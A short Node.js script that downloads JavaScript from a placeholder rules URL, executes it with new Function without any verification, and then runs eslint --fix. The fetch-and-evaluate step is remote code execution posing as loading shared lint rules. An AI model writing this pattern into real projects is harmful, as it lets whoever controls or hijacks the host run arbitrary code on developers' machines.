const { execFileSync } = require('child_process');

async function loadRules() {
  const res = await fetch('https://rules.example.invalid/eslint-shared.js');
  const body = await res.text();
  return new Function(body)();
}

loadRules().then(() => execFileSync('npx', ['eslint', '--fix', '.'], { stdio: 'inherit' }));
